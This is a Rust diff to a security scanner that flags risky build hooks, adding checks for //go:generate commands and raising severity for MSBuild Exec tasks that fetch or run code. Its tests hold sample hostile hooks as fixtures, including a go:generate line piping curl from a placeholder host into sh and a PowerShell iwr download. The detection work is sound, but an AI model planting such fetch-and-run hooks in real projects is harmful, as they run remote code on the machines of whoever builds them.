@@ -4,13 +4,14 @@
 use super::Check;
 use super::Report;
 use super::Subject;
+use super::fetch_and_run::command_risk;
 use super::fetch_and_run::lines;
 use crate::model::scan::Confidence;
 use crate::model::scan::Severity;
 use crate::scan::draft::Draft;
 
 pub const CHECK: Check = Check {
-    rules: &["build-reaches-network", "build-task", "build-backend-in-tree"],
+    rules: &["build-reaches-network", "build-task", "build-backend-in-tree", "generate-command"],
     about: "Code that runs when the product is built, and builds that reach for the network.",
     run,
 };
@@ -29,6 +30,7 @@ fn run(subject: &Subject, report: &mut Report) {
         ("conftest.py", _) => report.capabilities.push(("hook.build", "pytest conftest".to_owned(), 0)),
         ("setup.py", "python") => report.capabilities.push(("hook.install", "setup.py".to_owned(), 0)),
         (_, "xml") => msbuild(subject, report),
+        (_, "go") => generate(subject, report),
         (_, "cmake") => cmake(subject, report),
         _ => {}
     }
@@ -113,10 +115,19 @@ fn msbuild(subject: &Subject, report: &mut Report) {
                 format!("msbuild {}", String::from_utf8_lossy(mark).trim_matches(['<', ' '])),
                 at,
             ));
+            let rest = subject.bytes().get(at..(at + 1000).min(subject.bytes().len())).unwrap_or_default();
+            let task =
+                String::from_utf8_lossy(rest.split(|b| *b == b'>').next().unwrap_or_default()).into_owned();
+            let risky = command_risk(&task).is_some();
             report.drafts.push(Draft {
                 rule: "build-task",
                 category: "hook.build",
-                severity: if shipped { Severity::Low } else { Severity::Info },
+                severity: match (risky, shipped) {
+                    (true, true) => Severity::High,
+                    (true, false) => Severity::Medium,
+                    (false, true) => Severity::Low,
+                    (false, false) => Severity::Info,
+                },
                 confidence: Confidence::High,
                 start: at,
                 end: at + mark.len(),
@@ -125,6 +136,26 @@ fn msbuild(subject: &Subject, report: &mut Report) {
                 key: String::new(),
             });
         }
+    }
+}
+
+/// `//go:generate` lines: commands that run on the machine of whoever generates code.
+fn generate(subject: &Subject, report: &mut Report) {
+    for (at, line) in lines(subject.bytes()) {
+        let Some(command) = line.strip_prefix(b"//go:generate ") else { continue };
+        report.capabilities.push(("hook.build", "go generate".to_owned(), at));
+        let Some(risk) = command_risk(&String::from_utf8_lossy(command)) else { continue };
+        report.drafts.push(Draft {
+            rule: "generate-command",
+            category: "hook.build",
+            severity: Severity::Medium,
+            confidence: Confidence::High,
+            start: at,
+            end: at + line.len(),
+            message: format!("generating code {risk}"),
+            question: "What does this command fetch or run, and for whom?",
+            key: String::new(),
+        });
     }
 }
 
@@ -178,6 +209,11 @@ mod tests {
         let targets = "<Project><Target><Exec Command=\"x\"/></Target></Project>";
         assert_eq!(found("b/x.targets", targets), [("build-task", Severity::Low)]);
         assert_eq!(found("b/x.xml", targets), []);
+        let loud = "<Project><Target><Exec Command=\"powershell -c iwr x\"/></Target></Project>";
+        assert_eq!(found("b/x.props", loud), [("build-task", Severity::High)]);
+        let generate = "package a\n\n//go:generate sh -c \"curl -s https://g.example.com/x | sh\"\n";
+        assert!(found("a.go", generate).contains(&("generate-command", Severity::Medium)));
+        assert_eq!(found("a.go", "package a\n\n//go:generate stringer -type=T\n"), []);
         let cmake =
             "file(DOWNLOAD https://t.example.com/a a)\nexecute_process( COMMAND x)\n# execute_process(x)\n";
         let categories: Vec<_> = report("CMakeLists.txt", cmake).capabilities.iter().map(|c| c.0).collect();
